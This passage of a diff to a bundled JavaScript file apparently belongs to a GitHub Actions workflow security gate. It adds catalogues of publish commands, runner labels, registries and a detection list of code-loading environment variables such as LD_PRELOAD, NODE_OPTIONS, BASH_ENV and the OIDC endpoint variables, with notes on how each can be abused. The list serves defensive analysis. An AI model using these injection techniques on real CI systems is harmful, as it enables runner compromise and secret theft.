+    { label: 'yarn publish', re: /\byarn\s+(?:npm\s+)?publish\b/, publishes: 'npm', permissions: ['id-token'] },
+    // `pnpm --filter @scope/pkg publish`, `pnpm -r publish`, `npm publish --provenance`
+    { label: 'npm publish', re: /\b(?:npm|pnpm)\s+(?:(?!p?npm\b)[\w=@/.:-]+\s+)*publish\b/, publishes: 'npm', permissions: ['id-token'] },
+    { label: 'bun publish', re: /\bbun\s+publish\b/, publishes: 'npm', permissions: ['id-token'] },
+    { label: 'lerna publish', re: /\blerna\s+publish\b/, publishes: 'npm', permissions: ['id-token', 'contents'] },
+    { label: 'nx release', re: /\bnx\s+release\b/, publishes: 'npm', permissions: ['id-token', 'contents'] },
+    { label: 'changeset publish', re: /\bchangeset\s+publish\b/, publishes: 'npm', permissions: ['id-token'] },
+    { label: 'release-it', re: /\brelease-it\b/, publishes: 'npm', permissions: ['id-token', 'contents'] },
+    // `np` (sindresorhus/np), only where a command starts: the word is too short to find elsewhere
+    { label: 'np', re: /(?:^|[;&|(]\s*|\bnpx\s+)np(?:\s|$)/, publishes: 'npm', permissions: ['id-token', 'contents'] },
+    { label: 'covector publish', re: /\bcovector\s+publish\b/, publishes: 'npm', permissions: ['id-token', 'contents'] },
+    { label: 'choco push', re: /\bchoco(?:\.exe)?\s+push\b/, publishes: 'other' },
+    // an invocation (`npx semantic-release`, `semantic-release` as a command), not a package
+    // name (`pip uninstall python-semantic-release`, `@semantic-release/git`)
+    {
+        label: 'semantic-release',
+        re: /(?:^|[;&|(]\s*|\b(?:npx|pnpx|bunx|yarn|pnpm|pnpm\s+exec|pnpm\s+dlx|npm\s+exec)\s+(?:-\S*\s+)*)semantic-release(?![\w/-])/,
+        publishes: 'npm', permissions: ['id-token', 'contents', 'issues', 'pull-requests'],
+        bot: 'semantic-release',
+    },
+    { label: 'twine upload', re: /\btwine\s+upload\b/, publishes: 'pypi', permissions: ['id-token'] },
+    { label: 'uv publish', re: /\buv\s+publish\b/, publishes: 'pypi', permissions: ['id-token'] },
+    { label: 'python publish', re: /\b(?:poetry|flit|hatch|pdm)\s+publish\b/, publishes: 'pypi', permissions: ['id-token'] },
+    { label: 'maturin publish', re: /\bmaturin\s+(?:publish|upload)\b/, publishes: 'pypi', permissions: ['id-token'] },
+    { label: 'cargo publish', re: /\bcargo\s+(?:(?!cargo\b)[\w=+-]+\s+)*publish\b/, publishes: 'crates', permissions: ['id-token'] },
+    { label: 'gem push', re: /\bgem\s+push\b/, publishes: 'rubygems', permissions: ['id-token'] },
+    { label: 'rake release', re: /\b(?:bundle\s+exec\s+)?rake\s+release\b/, publishes: 'rubygems', permissions: ['id-token', 'contents'] },
+    // a draft release is seen by maintainers only; publishing it later (`gh release edit --draft=false`) is a release
+    { label: 'gh release', re: /\bgh\s+release\s+(?:create|upload|edit)\b/, publishes: 'github-release', permissions: ['contents'], unseen: /\bgh\s+release\s+create\b(?:(?!\bgh\s+release\b)[^\n])*\s(?:-d|--draft)(?:=true)?(?:\s|$)/ },
+    { label: 'gh release delete', re: /\bgh\s+release\s+delete\b/, permissions: ['contents'] },
+    {
+        label: 'push to GitHub Packages',
+        re: /\b(?:docker|podman)\s+(?:image\s+)?(?:push|login)\b|\b(?:npm|pnpm|yarn|gem|mvnw?|gradlew?)\b(?:(?!\b(?:npm|pnpm|yarn|gem|mvnw?|gradlew?)\b)[^\n])*\b(?:publish|push|deploy)\b|\b(?:dotnet\s+)?nuget\s+push\b/,
+        permissions: ['packages'],
+        scriptAlso: /\b(?:ghcr\.io|docker\.pkg\.github\.com|npm\.pkg\.github\.com|rubygems\.pkg\.github\.com|nuget\.pkg\.github\.com|maven\.pkg\.github\.com)\b|\$\{\{\s*env\.REGISTRY|\$REGISTRY\b/i,
+    },
+    { label: 'docker push', re: /\b(?:docker|podman)\s+(?:image\s+)?push\b/, publishes: 'container' },
+    // `docker buildx build --push`, `docker build --push` (buildx as the default builder), `--output type=registry`
+    { label: 'docker buildx --push', re: /\bdocker\s+(?:buildx\s+)?(?:build|bake)\b(?:(?!\bdocker\b)[^\n])*(?:--push\b|\bpush=true\b|\btype=registry\b)/, publishes: 'container' },
+    { label: 'nuget push', re: /\b(?:dotnet\s+)?nuget(?:\.exe)?\s+push\b/, publishes: 'nuget' },
+    // `mvn deploy`, `./mvnw -B deploy`, `mvn release:perform` (deploys the tagged build)
+    { label: 'mvn deploy', re: /\bmvnw?(?:\.cmd)?\b(?:(?!\bmvnw?\b)[^\n])*(?:\bdeploy\b|\brelease:perform\b)/, publishes: 'maven' },
+    // Gradle publishing tasks: `publish`, `:lib:publishAllPublicationsToMavenCentralRepository`,
+    // `publishPlugins` (the plugin portal); `publishToMavenLocal` only writes ~/.m2
+    { label: 'gradle publish', re: /\bgradlew?(?:\.bat)?\s(?:(?:(?!\bgradlew?\b)[^\n])*\s)?(?::[\w-]+)*:?publish(?!ToMavenLocal\b)\w*\b/, publishes: 'maven' },
+    // JReleaser: the CLI, its Maven plugin and its Gradle tasks
+    { label: 'jreleaser', re: /\bjreleaser(?:\s+|:)(?:full-release|release|deploy|publish)\b|\bjreleaser(?:FullRelease|Release|Deploy|Publish)\b/, publishes: 'maven', permissions: ['contents'], rehearsal: /--dry-run\b|-Djreleaser\.dry\.run=true\b/ },
+    // `goreleaser release`, or goreleaser run with flags only (it releases by default)
+    {
+        label: 'goreleaser release',
+        re: /\bgoreleaser\s+(?:release\b|--(?:clean|rm-dist|parallelism|timeout)\b)/,
+        publishes: 'github-release',
+        permissions: ['contents', 'id-token', 'packages'],
+        rehearsal: /--snapshot\b|--skip[= ](?:(?:(?!--skip)[^\s,])*,)*publish\b|--skip-publish\b/,
+    },
+    { label: 'anaconda upload', re: /\banaconda\b(?:(?!\banaconda\b)[^\n])*\bupload\b/, publishes: 'conda' },
+    { label: 'git push', re: /\bgit\s+push\b/, permissions: ['contents'] },
+    { label: 'gh api write', re: /\bgh\s+api\b(?:(?!\bgh\s+api\b)[^\n])*(?:-X|--method)\s*(?:POST|PATCH|PUT|DELETE)\b(?:(?!(?:-X|--method)\s*(?:POST|PATCH|PUT|DELETE)\b)[^\n])*\/(?:releases|git\/refs)/, permissions: ['contents'] },
+    { label: 'gh issue', re: /\bgh\s+issue\s+(?:create|edit|comment|close|reopen|lock|unlock|delete|transfer|pin|unpin)\b/, permissions: ['issues'] },
+    { label: 'gh label', re: /\bgh\s+label\s+(?:create|edit|delete|clone)\b/, permissions: ['issues'] },
+    // `gh api` and `curl` to the API with the job's token: which scope they use is in the URL
+    // and method, which the gate does not model; the step is opaque
+    { label: 'gh api', re: /\bgh\s+api\b/, opaque: true },
+    { label: 'gh pr create', re: /\bgh\s+pr\s+(?:create|merge|edit|comment)\b/, permissions: ['pull-requests', 'contents'] },
+    { label: 'cosign', re: /\bcosign\s+(?:sign|attest)/, signs: true, permissions: ['id-token'] },
+    { label: 'sigstore sign', re: /\bsigstore\s+sign\b/, signs: true, permissions: ['id-token'] },
+    { label: 'gh attestation', re: /\bgh\s+attestation\s/, signs: true, permissions: ['id-token'] },
+    { label: 'OIDC token request', re: /ACTIONS_ID_TOKEN_REQUEST/, permissions: ['id-token'] },
+    // package scripts and make targets named for a release: what they run is in a file the gate
+    // does not read, so they are opaque (the job's permissions cannot be judged unused)
+    { label: 'release script', re: /\b(?:npm|pnpm|yarn|bun)\s+(?:run\s+)?[\w:-]*(?:publish|release|deploy)[\w:-]*\b/, opaque: true, permissions: ['id-token'] },
+    { label: 'rake task', re: /\brake\s+[\w:-]*(?:release|push|publish|deploy)[\w:-]*/, opaque: true },
+    { label: 'make release', re: /\bmake\s+(?:(?!make\b)[\w-]+\s+)*[\w-]*(?:release|publish|deploy|upload)[\w-]*\b/, opaque: true },
+];
+/** github-script calls that write through the token: `github.rest.<api>.<method>`. */
+const GITHUB_SCRIPT_WRITES = [
+    { re: /\brepos\.(?:createRelease|updateRelease|deleteRelease|uploadReleaseAsset|createOrUpdateFileContents|createRef|updateRef|deleteRef|merge|createCommitStatus)\b/, scope: 'contents' },
+    { re: /\bgit\.(?:createRef|updateRef|deleteRef|createTag|createCommit|createTree|createBlob)\b/, scope: 'contents' },
+    { re: /\bpulls\.(?:create|update|merge|createReview|requestReviewers)\b/, scope: 'pull-requests' },
+    { re: /\bissues\.(?:create|update|createComment|addLabels|removeLabel|lock)\b/, scope: 'issues' },
+    { re: /\bgetIDToken\s*\(/, scope: 'id-token' },
+    { re: /\b(?:actions\.(?:createWorkflowDispatch|reRunWorkflow|cancelWorkflowRun|deleteArtifact))\b/, scope: 'actions' },
+    { re: /\bpackages\.(?:delete|restore)\w*/, scope: 'packages' },
+    { re: /\brepos\.createDeployment\w*/, scope: 'deployments' },
+];
+/**
+ * GitHub-hosted runner labels. Standard images (docs.github.com, "GitHub-hosted runners"),
+ * and the names GitHub's larger runners are usually given: an organisation names its larger
+ * runners itself, so these are patterns (`ubuntu-24.04-xl`, `ubuntu-latest-4-cores`,
+ * `linux-arm-large`, `github-windows-2025-x86_64-8`). A job on one of them is not
+ * self-hosted; `RUNNER_ENVIRONMENT` inside the job is the final word for the running job.
+ */
+const HOSTED_RUNNERS = [
+    /^(?:ubuntu-(?:latest|slim|\d{2}\.\d{2})(?:-arm)?|windows-(?:latest|\d{4}|11-arm)(?:-vs\d{4})?|macos-(?:latest|\d+)(?:-(?:large|xlarge|intel|arm64))?)$/i,
+    /^(?:ubuntu|windows|linux|macos)(?:-[\w.]+)*-(?:xl|xxl|large|xlarge|\d+-?cores?|\d+core|gpu|arm64|x64|arm)$/i,
+    /^github-(?:ubuntu|windows|linux|macos)(?:-[\w.]+)*$/i,
+];
+/**
+ * Third-party runner services: self-hosted as far as GitHub is concerned (their machines, not
+ * GitHub's). Named so the message can say which service it is.
+ */
+const RUNNER_SERVICES = [
+    { re: /^depot-/i, service: 'Depot' },
+    { re: /^blacksmith-/i, service: 'Blacksmith' },
+    { re: /^namespace-profile-/i, service: 'Namespace' },
+    { re: /^(?:runs-on|runs-on=)/i, service: 'RunsOn' },
+    { re: /^buildjet-/i, service: 'BuildJet' },
+    { re: /^warp-/i, service: 'WarpBuild' },
+    { re: /^ubicloud/i, service: 'Ubicloud' },
+    { re: /^cirrus-/i, service: 'Cirrus Runners' },
+];
+/** The facts of an action, sub-action first (`actions/cache/restore`), then its repository. */
+function actionFacts(name) {
+    if (!name)
+        return undefined;
+    const n = name.toLowerCase();
+    const own = ACTIONS[n];
+    if (own)
+        return own;
+    const repo = n.split('/').slice(0, 2).join('/');
+    return repo !== n ? ACTIONS[repo] : undefined;
+}
+const LOADING_ENV = [
+    { name: 'NODE_OPTIONS', does: 'makes every Node.js process, the gate included, load a module first', when: /(?:^|\s)(?:-r|--require|--import|--loader|--experimental-loader|--env-file|--env-file-if-exists)\b/ },
+    { name: 'NODE_PATH', does: 'changes where Node.js finds modules' },
+    { name: 'NODE_EXTRA_CA_CERTS', does: 'makes Node.js trust another certificate authority, so the gate\'s API answers can be forged' },
+    { name: 'NODE_TLS_REJECT_UNAUTHORIZED', does: 'turns off certificate checks in Node.js, so the gate\'s API answers can be forged', when: /^\s*0\s*$/ },
+    { name: 'LD_PRELOAD', does: 'loads a shared library into every process' },
+    { name: 'LD_LIBRARY_PATH', does: 'changes where every process finds its shared libraries' },
+    { name: 'LD_AUDIT', does: 'loads a shared library into every process' },
+    { name: /^DYLD_(?:INSERT_LIBRARIES|LIBRARY_PATH|FRAMEWORK_PATH)$/i, does: 'loads or redirects shared libraries on macOS' },
+    { name: 'BASH_ENV', does: 'makes every `bash` step source a file first (the runner runs `run:` with a non-interactive bash)' },
+    { name: 'ENV', does: 'makes `sh` source a file first', when: /[/~$]|\.(?:sh|bash|rc)\b/ },
+    { name: 'PYTHONSTARTUP', does: 'makes Python run a file first' },
+    { name: 'PYTHONPATH', does: 'changes where Python finds modules (a `sitecustomize.py` there runs first)' },
+    { name: 'PYTHONHOME', does: 'changes where Python finds its standard library' },
+    { name: 'PYTHONUSERBASE', does: 'changes where Python finds user site-packages (`.pth` files there run first)' },
+    { name: 'PERL5OPT', does: 'makes Perl load a module first' },
+    { name: 'PERL5LIB', does: 'changes where Perl finds modules' },
+    { name: 'PERLLIB', does: 'changes where Perl finds modules' },
+    { name: 'RUBYOPT', does: 'makes Ruby load a library first' },
+    { name: 'RUBYLIB', does: 'changes where Ruby finds libraries' },
+    { name: /^(?:JAVA_TOOL_OPTIONS|_JAVA_OPTIONS|JDK_JAVA_OPTIONS)$/i, does: 'makes the JVM load an agent or change its class path' },
+    { name: /^GIT_CONFIG_(?:COUNT|PARAMETERS|GLOBAL|SYSTEM|KEY_\d+|VALUE_\d+)$/i, does: 'sets git configuration (`core.fsmonitor`, `core.hooksPath` run programs)' },
+    { name: /^GIT_(?:EXEC_PATH|SSH_COMMAND|SSH|ASKPASS|PROXY_COMMAND)$/i, does: 'makes git run another program' },
+    { name: /^ACTIONS_ID_TOKEN_REQUEST_(?:URL|TOKEN)$/i, does: 'replaces the runner\'s OIDC endpoint, so signed claims can be forged' },
+    { name: /^ACTIONS_(?:RUNTIME_URL|RUNTIME_TOKEN|RESULTS_URL|CACHE_URL)$/i, does: 'redirects the runner\'s artifact and cache service' },
+];
+/** The catalogue entry for an environment variable's name and value, if it changes how code loads. */
+function loadingVar(name, value) {
+    const upper = name.toUpperCase();
+    for (const v of LOADING_ENV) {
+        const hit = typeof v.name === 'string' ? v.name === upper : v.name.test(name);
+        if (!hit)
+            continue;
+        if (v.when && !value.includes('${{') && !v.when.test(value))
+            return undefined;
+        return v;
+    }
+    return undefined;
+}
+/**
+ * Services a secret belongs to, by its name: sending `SLACK_WEBHOOK` to `hooks.slack.com` is
+ * its use, sending `PYPI_TOKEN` there is a leak. Shared hosting is never allowed as such
+ * (anyone can own a Slack webhook or an S3 bucket); only a secret named for the service.
+ */
+const SECRET_SERVICES = [
+    { secret: /SLACK/i, host: /^hooks\.slack\.com$/i },
+    { secret: /DISCORD/i, host: /^(?:discord\.com|discordapp\.com)$/i },
+    { secret: /TEAMS|WEBHOOK_OFFICE/i, host: /\.webhook\.office\.com$/i },
+    { secret: /CODECOV/i, host: /^(?:api\.)?codecov\.io$/i },
+];
+/**
+ * Container registries, by host, and whether they take a workflow's OIDC token (federation)
+ * instead of a stored password: a stored password for one that does is an error, for one that
+ * does not (Docker Hub, Quay) a warning. Sources: AWS "amazon-ecr-login", Google "Workload
+ * Identity Federation", Azure "OpenID Connect" docs.
+ */
+const CONTAINER_REGISTRIES = [
+    { host: /\.dkr\.ecr\.[a-z0-9-]+\.amazonaws\.com(?:\.cn)?$|^public\.ecr\.aws$/i, name: 'Amazon ECR', oidc: true },
+    { host: /(?:^|\.)(?:gcr\.io|[a-z0-9-]+-docker\.pkg\.dev)$/i, name: 'Google Artifact Registry', oidc: true },
+    { host: /\.azurecr\.io$/i, name: 'Azure Container Registry', oidc: true },
+    { host: /^ghcr\.io$/i, name: 'GitHub Container Registry', oidc: true, fix: 'Log in with `${{ secrets.GITHUB_TOKEN }}` and give the job `packages: write`; delete the stored token.' },
+    { host: /^(?:(?:registry-1\.|index\.)?docker\.io|)$/i, name: 'Docker Hub', oidc: false },
+];
+/** The container registry a `docker login` target names (Docker Hub when none). */
+function containerRegistry(host) {
+    const h = host.trim().replace(/^https?:\/\//i, '').replace(/\/.*$/, '');
+    return CONTAINER_REGISTRIES.find((r) => r.host.test(h));
+}
+
 ;// CONCATENATED MODULE: ./src/workflow/actions.ts
+
 
 const names = new WeakMap();
 function nameOf(step) {
@@ -31785,9 +32323,27 @@ function isAction(step, ...candidates) {
 function actionRepo(step) {
     return nameOf(step).repo;
 }
+/**
+ * A `with:` input's node. The runner matches `with:` keys to an action's inputs
+ * case-insensitively (`PASSWORD:` sets `password`), and so does this.
+ */
+function withNode(step, name) {
+    const exact = step.with.get(name);
+    if (exact)
+        return exact;
+    const lower = name.toLowerCase();
+    for (const [k, v] of step.with)
+        if (k.toLowerCase() === lower)
+            return v;
+    // a key written as an expression may be this input: its value counts as unknown
+    for (const [k, v] of step.with)
+        if (k.includes('${{'))
+            return { ...v, kind: 'scalar', value: `\${{ ${k} }}`, style: 'plain' };
+    return undefined;
+}
 /** A `with:` input as text (undefined when absent). */
 function input(step, name) {
-    const n = step.with.get(name);
+    const n = withNode(step, name);
     if (!n)
         return undefined;
     if (n.kind !== 'scalar')
@@ -31813,224 +32369,2129 @@ function versionOf(step, wf) {
     const m = v ? /^v?(\d+)/.exec(v.replace(/^refs\/tags\//, '')) : null;
     return m ? Number(m[1]) : undefined;
 }
+/**
+ * The version a step's action is at, as numbers (`v3.1.0` -> [3, 1, 0], `v3` -> [3]): its tag,
+ * or the `# vX.Y.Z` comment beside a SHA pin. A floating tag (`v3`) stands for its newest release.
+ */
+function versionParts(step, wf) {
+    const u = step.uses?.parsed;
+    if (!u || u.kind !== 'repo')
+        return undefined;
+    let v = u.refKind === 'tag' ? u.ref.replace(/^refs\/tags\//, '') : undefined;
+    if (!v)
+        v = trailingComment(wf.source, wf.yaml.lineCounter.lineStarts, step.uses.pos.line);
+    const m = v ? /^\s*(?:#\s*)?(?:[\w-]+@)?v?(\d+(?:\.\d+)*)/.exec(v) ?? /\bv?(\d+(?:\.\d+)*)/.exec(v) : null;
+    return m ? m[1].split('.').map(Number) : undefined;
+}
+/**
+ * Is a version within [from, to]? Bounds are a major (`3`) or `major.minor` (`'3.0'`); a
+ * version missing parts (a floating `v3`) counts as its newest release.
+ */
+function versionIn(ver, from, to) {
+    const parts = (b) => String(b).split('.').map(Number);
+    const cmp = (bound, missingIsMax) => {
+        for (let i = 0; i < bound.length; i++) {
+            const x = ver[i] ?? (missingIsMax ? Infinity : 0);
+            if (x !== bound[i])
+                return x < bound[i] ? -1 : 1;
+        }
+        return 0;
+    };
+    if (from !== undefined && cmp(parts(from), true) < 0)
+        return false;
+    if (to !== undefined && cmp(parts(to), true) > 0)
+        return false;
+    return true;
+}
 function runText(step) {
     return step.run && step.run.value !== null ? String(step.run.value) : undefined;
 }
+/** The catalogue's facts of a step's action (undefined for run steps and local actions). */
+function factsOf(step) {
+    return actionFacts(actionOf(step));
+}
+/**
+ * Does a catalogue condition hold for this step? An input written as an expression may hold
+ * either way: `maybe` decides what such a value counts as (true where an unknown value must
+ * not hide a publish or a permission use).
+ */
+function holds(when, step, maybe = true) {
+    if (when === undefined || when === true)
+        return true;
+    if ('all' in when)
+        return when.all.every((w) => holds(w, step, maybe));
+    if ('any' in when)
+        return when.any.some((w) => holds(w, step, maybe));
+    if ('set' in when) {
+        const v = input(step, when.set);
+        if (v === undefined || v.trim() === '')
+            return false;
+        return v.includes('${{') ? maybe : !isFalse(v);
+    }
+    if ('unset' in when) {
+        const v = input(step, when.unset);
+        if (v !== undefined && v.includes('${{'))
+            return maybe;
+        return v === undefined || v.trim() === '';
+    }
+    if ('notFalse' in when) {
+        const v = input(step, when.notFalse);
+        if (v !== undefined && v.includes('${{'))
+            return maybe;
+        return !isFalse(v);
+    }
+    const v = input(step, when.input);
+    if (v === undefined)
+        return false;
+    return when.matches.test(v) || (v.includes('${{') && maybe);
+}
+/** The catalogue's commands a `run:` script runs, each once, in order. */
+function stepCommands(step) {
+    let c = commandsMemo.get(step);
+    if (c)
+        return c;
+    c = [];
+    const run = runText(step);
+    if (run) {
+        for (const line of logicalLines(run)) {
+            // the shell reads `tw\ine`, `tw''ine` and `"twine"` as `twine`: match both spellings
+            const plain = unquoted(line);
+            for (const cmd of COMMANDS)
+                if (!c.includes(cmd) && (cmd.re.test(line) || (plain !== line && cmd.re.test(plain))))
+                    c.push(cmd);
+        }
+    }
+    commandsMemo.set(step, c);
+    return c;
+}
+const commandsMemo = new WeakMap();
+/**
+ * A shell line as the shell reads its words: backslash escapes resolved and quotes removed
+ * (`tw\ine`, `tw''ine`, `"tw"ine` are all `twine`). Linear; used only to find commands.
+ */
+function unquoted(line) {
+    if (!/[\\'"]/.test(line))
+        return line;
+    let out = '';
+    for (let i = 0; i < line.length; i++) {
+        const ch = line[i];
+        if (ch === '\\' && i + 1 < line.length)
+            out += line[++i];
+        else if (ch !== "'" && ch !== '"')
+            out += ch;
+    }
+    return out;
+}
+/** Shell lines with `\`-continuations joined and comments dropped. */
+function logicalLines(script) {
+    return script
+        .replace(/\\\r?\n/g, ' ')
+        .split(/\r?\n/)
+        .map((l) => stripComment(l).trim())
+        .filter(Boolean);
+}
+/** A shell line without its `# comment` (a `#` that starts a word). Linear. */
+function stripComment(line) {
+    for (let i = 0; i < line.length; i++) {
+        if (line[i] === '#' && (i === 0 || line[i - 1] === ' ' || line[i - 1] === '\t'))
+            return line.slice(0, i);
+    }
+    return line;
+}
 /** Steps that sign or attest what was built: consumers of `id-token: write` in a build job. */
 function isSigningStep(step) {
-    if (isAction(step, 'actions/attest-build-provenance', 'actions/attest', 'actions/attest-sbom', 'sigstore/gh-action-sigstore-python', 'sigstore/cosign-installer'))
-        return true;
-    if (isAction(step, 'hynek/build-and-inspect-python-package') && mayBeTrue(input(step, 'attest-build-provenance-github')))
-        return true;
-    const run = runText(step);
-    return !!run && /\b(cosign\s+(sign|attest)|sigstore\s+sign|gh\s+attestation\s+|slsa-verifier)/.test(run);
+    const f = factsOf(step);
+    if (f?.signs !== undefined)
+        return holds(f.signs, step);
+    return stepCommands(step).some((c) => c.signs);
 }
 /** Steps that attest through GitHub's attestations API (need `attestations: write`). */
 function isAttestStep(step) {
-    if (isAction(step, 'actions/attest-build-provenance', 'actions/attest', 'actions/attest-sbom'))
-        return true;
-    return isAction(step, 'hynek/build-and-inspect-python-package') && mayBeTrue(input(step, 'attest-build-provenance-github'));
+    return stepNeeds(step).scopes.has('attestations');
 }
 /** True, or an expression that may be true at run time. */
 function mayBeTrue(v) {
     return isTrue(v) || (v !== undefined && v.includes('${{'));
 }
-/** Actions that exchange the job's OIDC token with a cloud (they need `id-token: write`). */
-const OIDC_CLOUD_ACTIONS = [
-    'aws-actions/configure-aws-credentials',
-    'google-github-actions/auth',
-    'azure/login',
-    'hashicorp/vault-action',
-    'rust-lang/crates-io-auth-action',
-    'octo-sts/action',
-];
-/** Release bots that open release pull requests from the publishing job. */
-const RELEASE_BOTS = {
-    'changesets/action': 'changesets',
-    'release-plz/action': 'release-plz',
-    'googleapis/release-please-action': 'release-please',
-    'google-github-actions/release-please-action': 'release-please',
-};
+/** The release bot a step runs (it opens release pull requests), if any. */
 function releaseBot(step) {
-    const r = actionRepo(step);
-    if (r && RELEASE_BOTS[r])
-        return RELEASE_BOTS[r];
-    const run = runText(step);
-    if (run && /\bsemantic-release\b/.test(run))
-        return 'semantic-release';
-    return undefined;
+    return factsOf(step)?.bot ?? stepCommands(step).find((c) => c.bot)?.bot;
 }
-/** Steps that create or change a GitHub release or push to the repository (need `contents: write`). */
-function writesContents(step) {
-    if (isAction(step, 'softprops/action-gh-release', 'ncipollo/release-action', 'actions/create-release', 'actions/upload-release-asset', 'svenstaro/upload-release-action', 'goreleaser/goreleaser-action', 'marvinpinto/action-automatic-releases', 'mislav/bump-homebrew-formula-action', 'stefanzweifel/git-auto-commit-action', 'ad-m/github-push-action', 'yyx990803/release-tag')) {
-        return step.uses.value;
-    }
-    const run = runText(step);
-    if (!run)
-        return undefined;
-    const m = /\bgh\s+release\s+(create|upload|edit|delete)\b|\bgit\s+push\b|\bgit\s+tag\b[^\n]*&&[^\n]*push|\brake\s+release\b|\bgoreleaser\s+release\b|\bgh\s+api\b[^\n]*(-X|--method)\s*(POST|PATCH|PUT|DELETE)\b[^\n]*\/(releases|git\/refs)/.exec(run);
-    return m ? m[0] : undefined;
+/** Is a runner label one of GitHub's hosted runners (standard or larger)? */
+function isHostedLabel(label) {
+    return HOSTED_RUNNERS.some((re) => re.test(label));
 }
-/** Steps that push to GitHub's registries (need `packages: write`). */
-function writesPackages(step) {
-    const run = runText(step) ?? '';
-    const reg = /\b(ghcr\.io|docker\.pkg\.github\.com|npm\.pkg\.github\.com|rubygems\.pkg\.github\.com|nuget\.pkg\.github\.com|maven\.pkg\.github\.com)\b/;
-    if (isAction(step, 'docker/build-push-action') && isTrue(input(step, 'push'))) {
-        const tags = input(step, 'tags') ?? '';
-        // tags from an expression (metadata-action) may be ghcr.io: cannot say otherwise
-        return reg.test(tags) || tags.includes('${{') || tags === '' ? step.uses.value : undefined;
-    }
-    if (isAction(step, 'docker/login-action') && reg.test(input(step, 'registry') ?? ''))
-        return step.uses.value;
-    if (isAction(step, 'redhat-actions/push-to-registry') && reg.test(input(step, 'registry') ?? ''))
-        return step.uses.value;
-    if (isAction(step, 'actions/setup-node') && reg.test(input(step, 'registry-url') ?? ''))
-        return step.uses.value;
-    if (/\b(docker|podman)\s+(push|login)\b/.test(run) && (reg.test(run) || /\$\{?\{?\s*env\.REGISTRY|\$REGISTRY\b/.test(run)))
-        return 'docker push';
-    if (/\b(npm|gem|dotnet nuget|mvn)\b[^\n]*(publish|push|deploy)/.test(run) && reg.test(run))
-        return 'publish to GitHub Packages';
-    return undefined;
+/** A third-party runner service a label names (self-hosted as far as GitHub is concerned). */
+function runnerService(label) {
+    return RUNNER_SERVICES.find((s) => s.re.test(label))?.service;
 }
-/** Steps that use the job's OIDC token (need `id-token: write`). */
-function usesIdToken(step) {
-    if (isAction(step, 'pypa/gh-action-pypi-publish') && input(step, 'password') === undefined)
-        return step.uses.value;
-    if (isAction(step, ...OIDC_CLOUD_ACTIONS, 'release-plz/action', 'js-devtools/npm-publish', 'changesets/action', 'goreleaser/goreleaser-action'))
-        return step.uses.value;
-    if (isAction(step, 'rubygems/release-gem') && !isFalse(input(step, 'setup-trusted-publisher')))
-        return step.uses.value;
-    if (isAction(step, 'rubygems/configure-rubygems-credentials') && input(step, 'api-token') === undefined)
-        return step.uses.value;
-    if (isSigningStep(step))
-        return step.uses?.value ?? 'signing';
-    const run = runText(step);
-    if (!run)
-        return undefined;
-    const m = /\b(npm|pnpm|yarn|bun)\s+(?:[\w=:-]+\s+)*publish\b|\buv\s+publish\b|\bnx\s+release\b|\blerna\s+publish\b|\bcargo\s+publish\b|\b(npm|pnpm|yarn)\s+(run\s+)?[\w:-]*(publish|release)[\w:-]*\b|\bgh\s+attestation\b|ACTIONS_ID_TOKEN_REQUEST/.exec(run);
-    return m ? m[0] : undefined;
-}
-/** GitHub-hosted runner image labels (docs.github.com, "GitHub-hosted runners"). */
-const HOSTED_LABEL = /^(ubuntu-(latest|slim|\d{2}\.\d{2})(-arm)?|windows-(latest|\d{4}|11-arm)(-vs\d{4})?|macos-(latest|\d+)(-(large|xlarge|intel|arm64))?)$/i;
 const needsMemo = new WeakMap();
+/** Does a step's `env:` or `with:` hand it the job's token (`github.token`, `secrets.GITHUB_TOKEN`)? */
+function handsToken(step) {
+    const TOKEN = /\b(?:github\.token|secrets\.github_token)\b/i;
+    for (const m of [step.env, step.with])
+        for (const v of m.values())
+            if (v.kind === 'scalar' && typeof v.value === 'string' && TOKEN.test(v.value))
+                return true;
+    return false;
+}
+function githubScriptScopes(step, scopes) {
+    const script = input(step, 'script') ?? '';
+    for (const w of GITHUB_SCRIPT_WRITES)
+        if (w.re.test(script) && !scopes.has(w.scope))
+            scopes.set(w.scope, `${step.uses.value} (${w.re.exec(script)[0]})`);
+}
 function stepNeeds(step) {
     let n = needsMemo.get(step);
     if (n)
         return n;
-    n = {};
-    const id = usesIdToken(step);
-    if (id)
-        n.idToken = id;
-    if (isAttestStep(step))
-        n.attestations = step.uses?.value ?? 'attestation';
-    const c = writesContents(step);
-    if (c)
-        n.contents = c;
-    const p = writesPackages(step);
-    if (p)
-        n.packages = p;
-    const b = releaseBot(step);
-    if (b)
-        n.bot = b;
-    if (actionRepo(step) === 'actions/deploy-pages')
-        n.pages = true;
+    const scopes = new Map();
+    n = { scopes };
+    const u = step.uses?.parsed;
+    if (u && u.kind === 'repo') {
+        const f = factsOf(step);
+        const name = step.uses.value;
+        if (!f)
+            n.opaque = name;
+        else {
+            for (const p of f.permissions ?? [])
+                if (!scopes.has(p.scope) && holds(p.when, step))
+                    scopes.set(p.scope, name);
+            if (f.bot)
+                n.bot = f.bot;
+            if (f.sinks?.includes('script'))
+                githubScriptScopes(step, scopes);
+        }
+    }
+    else if (u && u.kind === 'docker') {
+        n.opaque = step.uses.value;
+    }
+    else if (!u) {
+        const run = runText(step) ?? '';
+        // a script handed the job's token may call the API with it: which scope it uses is in the
+        // script's requests, which the gate does not model
+        if (handsToken(step) && /\b(?:curl|wget|gh|octokit|http)\b|Invoke-RestMethod|requests\./i.test(run))
+            n.opaque = 'a script given the job token';
+        for (const c of stepCommands(step)) {
+            if (c.scriptAlso && !c.scriptAlso.test(run))
+                continue;
+            for (const s of c.permissions ?? [])
+                if (!scopes.has(s))
+                    scopes.set(s, c.label);
+            if (c.bot)
+                n.bot = c.bot;
+            if (c.opaque && !n.opaque) {
+                const m = logicalLines(run).map((l) => c.re.exec(l)).find(Boolean);
+                n.opaque = m ? m[0] : c.label;
+            }
+        }
+    }
+    // local actions are expanded by stepSites; a local action that could not be read is opaque
     needsMemo.set(step, n);
     return n;
 }
 
-;// CONCATENATED MODULE: ./src/workflow/sites.ts
-/** The runner's own limit of nested composite actions. */
-const MAX_COMPOSITE_DEPTH = 9;
-function localAction(local, path) {
-    const p = path.replace(/^\.?\/+/, '').replace(/\/+$/, '');
-    return local.get(`${p}/action.yml`) ?? local.get(`${p}/action.yaml`);
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/ast.js
+class Expr {
 }
-function jobSites(wf, scope, local) {
-    const targets = new Set(scope.targets.map((j) => j.id));
-    const out = [];
-    const visit = (job, file, chain, target, depth) => {
-        out.push({ job, wf: file, chain, target });
-        const u = job.uses?.parsed;
